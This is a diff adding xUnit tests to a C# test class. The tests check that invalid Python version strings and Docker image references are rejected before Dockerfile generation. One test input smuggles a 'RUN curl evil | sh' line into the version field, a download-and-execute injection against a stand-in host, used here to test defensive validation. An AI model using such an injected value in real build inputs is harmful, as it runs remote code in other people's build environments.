@@ -81,6 +81,17 @@ public sealed class WandbJobBuildTests : IDisposable
     }
 
     [Theory]
+    [InlineData("3.10\nRUN curl evil | sh")]
+    [InlineData("3")]
+    [InlineData("latest")]
+    public void A_python_version_that_is_not_a_version_never_reaches_the_Dockerfile(string version)
+    {
+        var e = Assert.Throws<JobFailedException>(() => Generate(version, ["python", "x.py"]));
+        Assert.Equal(FailureStage.Build, e.Stage);
+        Assert.Contains("is not a version", e.Message);
+    }
+
+    [Theory]
     [InlineData("nvidia/cuda:12 #x", "cannot contain whitespace or '#'")]
     [InlineData("nvidia/cuda@sha256:abc", "Expected digest to match sha256:<64 hex characters>.")]
     [InlineData("Nvidia/CUDA", "Expected a valid Docker image reference name.")]
